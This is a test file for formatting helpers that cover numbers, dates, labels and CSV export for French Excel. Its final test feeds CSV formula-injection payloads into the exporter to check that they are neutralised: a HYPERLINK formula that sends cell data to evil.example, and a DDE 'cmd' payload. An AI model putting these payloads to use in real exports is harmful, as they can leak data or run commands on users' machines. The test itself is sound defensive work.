import { expect } from '@open-wc/testing';
import { columnLabel, formatCell, formatCompact, formatDate, formatNumber, formatPercent, toCSV, csvDecimal } from '../src/index.js';

// Intl puts narrow no-break spaces in French numbers: compare with plain spaces
const plain = (text: string): string => text.replace(/[\u00a0\u202f]/g, ' ');

describe('formatting helpers', () => {
  const table: [string, () => string, string][] = [
    ['number fr', () => formatNumber(1234.5, 'fr'), '1 234,5'],
    ['number en', () => formatNumber(1234.5, 'en'), '1,234.5'],
    ['number rounds to 2 decimals', () => formatNumber(2.34567, 'fr'), '2,35'],
    ['compact fr', () => formatCompact(1_234_567, 'fr'), '1,2 M'],
    ['compact en', () => formatCompact(1_234_567, 'en'), '1.2M'],
    ['percent of a ratio', () => formatPercent(0.247, 'fr'), '24,7 %'],
    ['percent in points (a 24,7% cell)', () => formatPercent(24.7, 'en', { points: true }), '24.7%'],
    ['date fr', () => formatDate('2024-03-05', 'fr'), '5 mars 2024'],
    ['date en', () => formatDate('2024-03-05', 'en'), '5 March 2024'],
    ['short date', () => formatDate('2024-03-05', 'fr', { style: 'short' }), '05/03/2024'],
    ['not a date stays as is', () => formatDate('printemps', 'fr'), 'printemps'],
    ['a year is not grouped', () => formatCell(2024, { name: 'annee', type: 'integer', format: 'year' }, 'fr'), '2024'],
    ['a number cell', () => formatCell(253695, { name: 'total', type: 'integer' }, 'fr'), '253 695'],
    ['a boolean cell', () => formatCell(true, { name: 'gratuit', type: 'boolean' }, 'fr'), 'Oui'],
    ['a boolean cell en', () => formatCell(false, { name: 'gratuit', type: 'boolean' }, 'en'), 'No'],
    ['a boolean written as text', () => formatCell('vrai', { name: 'gratuit', type: 'boolean' }, 'fr'), 'Oui'],
    ['a date cell', () => formatCell('2021-03-05', { name: 'date', type: 'date' }, 'fr'), '5 mars 2021'],
    ['an empty cell', () => formatCell(null, { name: 'x', type: 'string' }, 'fr'), ''],
    ['hostile text stays text', () => formatCell('<b>x</b>', { name: 'x', type: 'string' }, 'fr'), '<b>x</b>'],
    ['label', () => columnLabel('nom_du_musee'), 'Nom du musée'],
    ['label of an aggregate', () => columnLabel('total__sum'), 'Total (sum)'],
  ];
  for (const [name, run, expected] of table) it(name, () => expect(plain(run())).to.equal(expected));

  it('writes CSV for French Excel: BOM, ;, quotes, CRLF', () => {
    const csv = toCSV([{ nom: 'Musée "A"; B', total: 12.5, vide: null }, { nom: 'ligne\nsuivante', total: 3, vide: '' }], ['nom', 'total', 'vide']);
    expect(csv).to.equal('\uFEFFnom;total;vide\r\n"Musée ""A""; B";12.5;\r\n"ligne\nsuivante";3;\r\n');
  });

  it('writes decimal commas for French Excel when asked, no thousands separator, same quoting', () => {
    const rows = [{ nom: 'Musée "A"; 1.5', montant: 1234.5, n: 1234567, petit: -0.25 }];
    const csv = toCSV(rows, ['nom', 'montant', 'n', 'petit'], { decimal: ',' });
    expect(csv).to.equal('\uFEFFnom;montant;n;petit\r\n"Musée ""A""; 1.5";1234,5;1234567;-0,25\r\n');
    expect(toCSV(rows, ['montant'])).to.equal('\uFEFFmontant\r\n1234.5\r\n');
    expect(csvDecimal('fr')).to.equal(',');
    expect(csvDecimal('en')).to.equal('.');
  });

  it('neutralises formulas in cells and headers (OWASP: a leading \'), real negative numbers stay numbers', () => {
    const rows = [
      { '=cmd': '=HYPERLINK("http://evil.example/?"&A1,"clic")', n: -12.5 },
      { '=cmd': "+cmd|' /C calc'!A0", n: -3 },
      { '=cmd': '@SUM(1+1)', n: 0 },
      { '=cmd': '-2+3+cmd', n: null },
      { '=cmd': '\t=1+1', n: null },
      { '=cmd': '\r=1+1', n: null },
      { '=cmd': '-42', n: null },
    ];
    const lines = toCSV(rows, ['=cmd', 'n'], { decimal: ',' }).slice(1).split('\r\n');
    expect(lines.slice(0, 7)).to.deep.equal([
      "'=cmd;n",
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""clic"")";-12,5',
      "'+cmd|' /C calc'!A0;-3",
      "'@SUM(1+1);0",
      "'-2+3+cmd;",
      "'\t=1+1;",
      '"\'\r=1+1";',
    ]);
    expect(lines[7]).to.equal('-42;');
  });
});
